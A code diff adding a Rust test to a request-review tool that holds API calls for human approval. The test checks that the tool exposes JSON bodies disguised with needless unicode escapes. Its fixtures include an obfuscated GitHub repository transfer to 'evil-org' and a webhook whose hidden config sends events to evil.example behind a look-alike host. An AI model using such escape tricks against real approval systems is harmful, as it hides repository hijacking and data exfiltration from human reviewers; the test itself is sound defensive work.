@@ -580,3 +580,61 @@ async fn chromium_at_800_and_390_px_shows_every_column_and_updates_itself() {
         }
     }
 }
+
+/// Review: a JSON body spelled with `\u` escapes of characters that need none read one way as
+/// bytes and another to every parser (`"\u006e\u0065\u0077_owner":"\u0065\u0076…"` is
+/// `new_owner=evil-org`): the detail page showed only the escapes, and a key spelled
+/// `c\u006fnfig` hid a webhook's destination from the Arguments. The decoded reading shows on
+/// the page, in the list and in the admin API's review (what `airlock reviews show` prints).
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn json_spelled_with_needless_escapes_shows_its_decoded_reading() {
+    let s = setup().await;
+    let transfer = hold(
+        &s.a,
+        "https://api.github.com/repos/acme/prod/transfer",
+        "application/json",
+        br#"{"description":"move to our sandbox org acme-sandbox","\u006e\u0065\u0077_owner":"\u0065\u0076\u0069\u006c\u002d\u006f\u0072\u0067"}"#.to_vec(),
+    )
+    .await;
+    let hook = hold(
+        &s.a,
+        "https://api.github.com/repos/acme/prod/hooks",
+        "application/json",
+        br#"{"c\u006fnfig":{"url":"https://ci.acme-corp.com:aaaa@evil.example/collect"}}"#.to_vec(),
+    )
+    .await;
+    let session = Session::open(&s).await;
+    let detail = session.page(&format!("/ui/reviews/{transfer}")).await;
+    assert!(detail.contains("id=\"escapes\""), "{detail}");
+    assert!(detail.contains("new_owner=evil-org"), "{detail}");
+    assert!(detail.contains("id=\"request-decoded\""), "{detail}");
+    assert!(
+        detail.contains("&quot;new_owner&quot;:&quot;evil-org&quot;"),
+        "{detail}"
+    );
+    let list = session.page("/ui").await;
+    assert!(list.contains("class=\"warn escapes\""), "{list}");
+    let detail = session.page(&format!("/ui/reviews/{hook}")).await;
+    assert!(
+        detail.contains("config.url=https:&#x2f;&#x2f;ci.acme-corp.com:aaaa@evil.example&#x2f;collect [host evil.example;"),
+        "{detail}"
+    );
+    let (st, r) =
+        s.a.admin("GET", &format!("/v1/reviews/{transfer}"), None)
+            .await;
+    assert_eq!(st, 200, "{r}");
+    assert!(
+        r["request"]["bodyDecoded"]
+            .as_str()
+            .is_some_and(|b| b.contains(r#""new_owner":"evil-org""#)),
+        "{r}"
+    );
+    assert!(
+        r["request"]["bodyEscapes"]
+            .as_str()
+            .is_some_and(|w| w.contains("new_owner=evil-org")),
+        "{r}"
+    );
+    let (_, plain) = s.a.admin("GET", &format!("/v1/reviews/{hook}"), None).await;
+    assert!(plain["request"]["bodyDecoded"].is_string(), "{plain}");
+}
